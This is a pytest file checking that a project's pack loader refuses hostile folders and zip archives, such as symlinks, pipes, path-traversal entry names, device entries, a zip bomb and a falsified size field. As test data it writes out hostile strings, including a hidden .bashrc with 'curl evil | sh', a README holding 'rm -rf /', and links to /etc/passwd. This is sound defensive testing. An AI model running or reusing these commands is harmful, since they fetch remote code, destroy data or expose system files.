"""T23, R16: a pack is data. What is not is refused with its reason, and nothing is written."""

from __future__ import annotations

import os
import socket
import stat
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from tongban.base.kernel.api import DefinitionError
from tongban.packs import api as packs
from tongban.packs.sources import MAX_FILE

Evil = Callable[[Path], None]


def _socket(folder: Path) -> None:
    here = Path.cwd()
    os.chdir(folder)  # a socket's path must be short
    try:
        socket.socket(socket.AF_UNIX).bind("door")
    finally:
        os.chdir(here)


FOLDERS: dict[str, tuple[Evil, str]] = {
    "a link to a file": (lambda f: (f / "README.md").unlink() or (f / "README.md").symlink_to("/etc/passwd"), "links"),
    "a link to a folder": (lambda f: (f / "seed").symlink_to("/etc"), "links"),
    "a pipe": (lambda f: os.mkfifo(f / "roles.yaml"), "pipes"),
    "a socket": (_socket, "pipes"),
    "a huge file": (lambda f: (f / "README.md").write_bytes(b"a" * (MAX_FILE + 1)), "larger"),
    "a hidden file": (lambda f: (f / ".bashrc").write_text("curl evil | sh"), "no place"),
    "a hidden file with a known ending": (lambda f: (f / "forms" / ".yaml").write_text("form: x"), "no place"),
    "a Python program": (lambda f: (f / "hook.py").write_text("import os"), "no place"),
    "a program in a folder of its own": (lambda f: (f / "bin").mkdir(), "no place"),
    "a template": (lambda f: (f / "forms" / "page.html").write_text("{{ settings }}"), "no place"),
    "a program under a known name": (lambda f: (f / "README.md").write_text("#!/bin/sh\nrm -rf /"), "a program"),
    "a binary under a known name": (lambda f: (f / "README.md").write_bytes(b"\x7fELF\0\0"), "not a text"),
    "a text that is not UTF-8": (lambda f: (f / "README.md").write_bytes("说明".encode("gb18030")), "not a text"),
    "an archive inside": (lambda f: (f / "more.zip").write_bytes(b"PK\3\4"), "no place"),
}


@pytest.mark.parametrize("evil", FOLDERS, ids=list(FOLDERS))
def test_t23_an_evil_folder_is_refused_with_its_reason(demo: Path, evil: str) -> None:
    spoil, reason = FOLDERS[evil]
    spoil(demo)
    with pytest.raises(DefinitionError) as refused:
        packs.load(demo)
    assert any(reason in finding for finding in refused.value.findings), refused.value.findings


def _entry(name: str, mode: int = 0) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name)
    entry.external_attr = mode << 16
    return entry


ARCHIVES: dict[str, tuple[zipfile.ZipInfo, bytes, str]] = {
    "a name that climbs out": (_entry("../../evil.txt"), b"x", "leads out"),
    "a name that climbs out inside": (_entry("forms/../../evil.yaml"), b"x", "leads out"),
    "an absolute name": (_entry("/etc/cron.d/evil"), b"x", "leads out"),
    "a name of another system": (_entry("C:\\evil.yaml"), b"x", "leads out"),
    "backslashes": (_entry("..\\evil.yaml"), b"x", "leads out"),
    "a link": (_entry("README.md", stat.S_IFLNK | 0o777), b"/etc/passwd", "links"),
    "a device": (_entry("README.md", stat.S_IFBLK | 0o600), b"", "devices"),
    "a pipe": (_entry("README.md", stat.S_IFIFO | 0o600), b"", "devices"),
    "a program": (_entry("install.sh", 0o755), b"#!/bin/sh", "no place"),
    "a bomb": (_entry("README.md"), b"0" * 50_000_000, "larger"),
    "a file twice": (_entry("PACK.yaml"), b"key: other", "twice"),
}


def pack_up(folder: Path, *more: tuple[zipfile.ZipInfo, bytes]) -> Path:
    """The pack as an archive, with entries that only an attacker would add."""
    path = folder.with_suffix(".zip")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        extra = {entry.filename for entry, _data in more}
        for file in sorted(folder.rglob("*.*")):
            if file.is_file() and file.relative_to(folder).as_posix() not in extra:
                archive.write(file, file.relative_to(folder))
        for entry, data in more:
            archive.writestr(entry, data, zipfile.ZIP_DEFLATED)
    return path


@pytest.mark.parametrize("evil", ARCHIVES, ids=list(ARCHIVES))
def test_t23_an_evil_archive_is_refused_and_nothing_is_written(demo: Path, evil: str) -> None:
    entry, data, reason = ARCHIVES[evil]
    path = pack_up(demo, (entry, data))
    before = sorted(demo.parents[2].rglob("*"))
    with pytest.raises(DefinitionError) as refused:
        packs.load(path)
    assert any(reason in finding for finding in refused.value.findings), refused.value.findings
    assert sorted(demo.parents[2].rglob("*")) == before


def test_t23_a_lie_about_the_size_is_not_believed(demo: Path) -> None:
    path = pack_up(demo, (_entry("README.md"), b"0" * 50_000_000))
    body = path.read_bytes()
    path.write_bytes(body.replace(struct.pack("<L", 50_000_000), struct.pack("<L", 10)))
    with pytest.raises(DefinitionError):
        packs.load(path)


def test_t23_a_broken_archive_is_refused(demo: Path) -> None:
    path = pack_up(demo)
    path.write_bytes(path.read_bytes()[:200])
    with pytest.raises(DefinitionError):
        packs.load(path)


def test_a_sound_archive_is_the_same_pack_as_its_folder(demo: Path) -> None:
    read, folder = packs.load(pack_up(demo)), packs.load(demo)
    assert (read.digest, read.key, read.folder) == (folder.digest, folder.key, folder.folder)
    packs.read([str(demo.with_suffix(".zip"))])


def test_t27_one_changed_byte_is_another_digest(demo: Path) -> None:
    before = packs.load(demo).digest
    readme = demo / "README.md"
    readme.write_bytes(readme.read_bytes()[:-2] + b"!\n")
    assert packs.load(demo).digest != before
